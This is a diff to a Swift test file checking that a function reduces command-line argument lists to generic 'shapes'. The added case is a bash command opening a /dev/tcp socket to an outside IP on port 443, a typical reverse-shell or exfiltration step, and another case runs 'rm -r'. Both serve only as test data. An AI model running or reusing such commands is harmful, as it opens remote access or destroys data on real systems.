@@ -105,7 +105,7 @@ import Trace
     (["/usr/bin/git", "clone", "--depth=12", "https://203.0.113.9/a/b42", "/tmp/x81/b7"], "git clone --depth=# …/b#"),
     (["cc", "-c", "/src/a1.c", "/src/a2.c", "/src/a17.c"], "cc -c …/a#.c"),
     (["git", "show", "9cdc8adb1f"], "git show #"), (["sh", "-c", "echo a; rm -r b"], "sh -c …"),
-    (["x", ""], "x …"), ([], ""),
+    (["bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/443"], "bash -c …"), (["x", ""], "x …"), ([], ""),
   ])
   func whatVariesIsTakenOut(_ arguments: [String], _ shape: String) {
     #expect(ArgumentShape.text(of: arguments) == shape)
